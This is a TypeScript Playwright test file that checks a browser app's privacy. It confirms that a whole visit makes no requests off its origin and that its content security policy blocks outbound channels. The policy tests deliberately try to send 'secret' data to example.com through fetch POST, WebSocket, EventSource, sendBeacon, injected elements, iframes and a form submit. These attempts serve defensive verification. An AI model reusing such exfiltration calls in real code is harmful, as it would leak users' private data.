/** @file Nothing leaves the page: every request of a whole visit, seen from outside the browser; and what the policy would stop. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { evaluateVerb } from "../../cli/evaluate.ts";
import { drawScene, encodePng } from "../../src/index.ts";
import { printed } from "../cli/run.ts";
import { drawn, goTo, method, modelFiles, pictureFiles, rested, SLOW, soon, visit } from "./desk.ts";
import { openWire, type Sent, type Wire } from "./wire.ts";
import { explained, openStudio, type Studio } from "./world.ts";

const scratch = mkdtempSync(join(tmpdir(), "onnxplain-privacy-"));
const SECRET = "private-diary";
let wire: Wire;
let studio: Studio | undefined;

beforeAll(async () => {
  mkdirSync(join(scratch, "pictures/thing"), { recursive: true });
  for (const seed of [3, 4])
    writeFileSync(join(scratch, `pictures/thing/${seed}.png`), await encodePng(drawScene(seed, { size: 96 }).image));
  const asked = ["--methods", "grad-cam,gradient", "--metrics", "scg rho=0.25,morf", "--threads", "1", "--quiet"];
  const from = ["--model", "demo/shapes", "--data", join(scratch, "pictures")];
  await printed(evaluateVerb, [...from, ...asked, "-o", join(scratch, "run")]);
  wire = await openWire();
  studio = await openStudio({ runs: [join(scratch, "run")] }, wire.flags);
}, SLOW);
afterAll(async () => {
  await studio?.close();
  await wire?.close();
  rmSync(scratch, { recursive: true, force: true });
});

const MODEL = ["model.onnx", "config.json", "preprocessor_config.json"].map((name) => `demo/shortcut/${name}`);

async function saved(page: Page, button: RegExp): Promise<string> {
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: button }).click(),
  ]);
  expect(await download.failure()).toBeNull();
  return download.suggestedFilename();
}

/** What Chromium asks of its maker for itself: updates, the time, hints for forms. No page has a hand in it. */
const BROWSERS_OWN = /^(?:\w+:\/\/)?(?:[\w-]+\.)*(?:google|googleapis|gvt1)\.com[:/]/;
const elsewhere = (sent: readonly Sent[], origin: string): readonly Sent[] =>
  sent.filter((s) => !s.url.startsWith(origin) && !BROWSERS_OWN.test(s.url));

/** What is wrong with a request; empty for one that tells nobody anything. */
function telling({ method: verb, url, body, headers }: Sent, origin: string): readonly string[] {
  const told = [
    ...(url.startsWith(origin) ? [] : ["leaves the origin"]),
    ...(verb === "GET" || verb === "HEAD" ? [] : [`is a ${verb}`]),
    ...(body > 0 ? [`carries ${body} bytes`] : []),
    ...(url.includes("?") || url.includes("#") ? ["has a query"] : []),
    ...(url.includes(SECRET) ? ["names what was opened"] : []),
    ...(headers.cookie === undefined ? [] : ["carries cookies"]),
  ];
  return told.map((what) => `${verb} ${url} ${what}`);
}

describe("a whole visit", () => {
  it("asks its own origin for its own files, and tells nothing", { timeout: SLOW }, async ({ skip }) => {
    if (!studio) return skip("no Chromium is here");
    const { url } = studio;
    await visit(studio, async ({ page, faults }) => {
      const asked = new Set<string>();
      page.context().on("request", (r) => asked.add(r.url()));
      await modelFiles(page).setInputFiles(MODEL);
      await page.getByText("learnt a watermark").first().waitFor({ state: "attached" });
      const buffer = Buffer.from(await encodePng(drawScene(5, { size: 120 }).image));
      await pictureFiles(page).setInputFiles({ name: `${SECRET}.png`, mimeType: "image/png", buffer });
      await page.getByRole("radio", { name: new RegExp(SECRET) }).waitFor();
      for (const id of ["gradient", "occlusion", "smoothgrad"]) {
        await method(page, id).check();
        await drawn(page, id);
      }
      await rested(page);
      await goTo(page, "Measure");
      await page.locator(".measure-table").first().waitFor();
      await rested(page);
      await goTo(page, "Runs");
      await page.getByRole("button", { name: /^run/ }).first().click();
      await page.locator('article.report[aria-busy="false"]').waitFor();
      await goTo(page, "Take away");
      expect(await saved(page, /^Picture/)).toBe(`${SECRET}-explained.png`);
      expect(await saved(page, /^Evidence bundle/)).toBe(`${SECRET}-explained.zip`);
      expect(await saved(page, /^Report/)).toBe(`${SECRET}-explained.html`);
      expect(await saved(page, /^gradient .onnx/)).toBe("gradient.onnx");
      await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
      await page.getByText("is kept in this browser").waitFor();
      await page.goto(url);
      await explained(page);
      expect(faults).toEqual([]);
      expect([...asked].filter((u) => !u.startsWith(url) && !/^(blob|data):/.test(u))).toEqual([]);
    });
    const [here, there] = [wire.sent.filter((s) => s.url.startsWith(url)), elsewhere(wire.sent, url)];
    const paths = new Set(here.map((s) => s.url.replace(url, "/")));
    console.log(
      `privacy: ${here.length} requests of page, worker and service worker for ${paths.size} files, ${there.length} elsewhere`,
    );
    for (const part of ["/", "/service-worker.js", "/ort/ort-wasm-simd-threaded.wasm", "/runs/0/results.parquet"])
      expect(paths).toContain(part);
    expect([...here, ...there].flatMap((s) => telling(s, url))).toEqual([]);
  });
});

describe("the policy", () => {
  /** Ways out of a page and of a worker; what each said. */
  const ways = async (): Promise<Readonly<Record<string, string>>> => {
    const there = "https://example.com/?secret";
    const refused = (attempt: () => unknown): Promise<string> =>
      Promise.resolve()
        .then(attempt)
        .then(
          () => "went",
          () => "refused",
        );
    const socket = (): Promise<void> =>
      new Promise((done, fail) => {
        const s = new WebSocket("wss://example.com/");
        s.onopen = () => done();
        s.onerror = fail;
      });
    const events = (): Promise<void> =>
      new Promise((done, fail) => {
        const s = new EventSource(there);
        s.onopen = () => done();
        s.onerror = fail;
      });
    return {
      fetch: await refused(() => fetch(there, { method: "POST", body: "secret", mode: "no-cors" })),
      ...("EventSource" in self ? { events: await refused(events) } : {}),
      ...("WebSocket" in self ? { socket: await refused(socket) } : {}),
      code: await refused(() => new Function("return 1")()),
    };
  };
  const REFUSED = { fetch: "refused", events: "refused", socket: "refused", code: "refused" };
  /** As text, since the test runner rewrites imports. */
  const SCRIPT = 'import("https://example.com/").then(() => "went", () => "refused")';

  it("lets neither page nor workers out", { timeout: SLOW }, async ({ skip }) => {
    if (!studio) return skip("no Chromium is here");
    const before = wire.sent.length;
    const { url } = studio;
    await visit(studio, async ({ page }) => {
      const broken = await page.evaluate(() => {
        const seen: string[] = [];
        document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
        Object.assign(globalThis, { broken: seen });
        return seen;
      });
      expect(broken).toEqual([]);
      expect(await page.evaluate(ways)).toEqual(REFUSED);
      expect(await page.evaluate(SCRIPT)).toBe("refused");
      await page.evaluate(() => {
        navigator.sendBeacon("https://example.com/", "secret");
        for (const [tag, at] of [
          ["img", "src"],
          ["script", "src"],
          ["object", "data"],
          ["video", "src"],
        ] as const) {
          const element = document.createElement(tag);
          element.setAttribute(at, "https://example.com/secret");
          document.body.append(element);
        }
        const inline = document.createElement("script");
        inline.textContent = "globalThis.ranInline = true";
        document.body.append(inline);
      });
      const [worker] = page.workers();
      expect(await worker?.evaluate(ways)).toEqual(REFUSED);
      expect(await worker?.evaluate(SCRIPT)).toBe("refused");
      await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
      const [service] = page.context().serviceWorkers();
      expect(await service?.evaluate(ways)).toMatchObject({ fetch: "refused", code: "refused" });
      await page.waitForTimeout(500);
      const seen = await page.evaluate(() => (globalThis as unknown as { broken: readonly string[] }).broken);
      for (const directive of ["connect-src", "img-src", "script-src-elem", "object-src", "media-src"])
        expect(seen).toContain(directive);
      expect(await page.evaluate(() => "ranInline" in globalThis)).toBe(false);
      expect(elsewhere(wire.sent.slice(before), url)).toEqual([]);
      // a browser may already shake hands with the host of a frame or a form, before the policy refuses what would be sent
      await page.evaluate(() => {
        const frame = document.createElement("iframe");
        frame.src = "https://example.com/secret";
        const form = document.createElement("form");
        Object.assign(form, { action: "https://example.com/", method: "post" });
        document.body.append(frame, form);
        form.submit();
      });
      await soon(() => page.evaluate(() => (globalThis as unknown as { broken: string[] }).broken)).toEqual(
        expect.arrayContaining(["frame-src", "form-action"]),
      );
      expect(elsewhere(wire.sent.slice(before), url).filter((s) => s.method !== "CONNECT")).toEqual([]);
    });
  });
});
